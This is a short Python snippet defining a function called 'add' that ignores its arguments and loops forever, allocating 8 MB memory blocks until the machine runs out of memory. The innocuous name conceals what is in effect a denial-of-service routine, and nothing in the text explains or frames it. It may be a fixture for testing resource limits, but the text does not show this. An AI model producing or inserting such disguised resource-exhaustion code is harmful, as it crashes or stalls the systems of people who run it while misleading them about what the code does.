def add(one, other):
    grown = []
    while True:
        grown.append(bytearray(8 * 1024 * 1024))
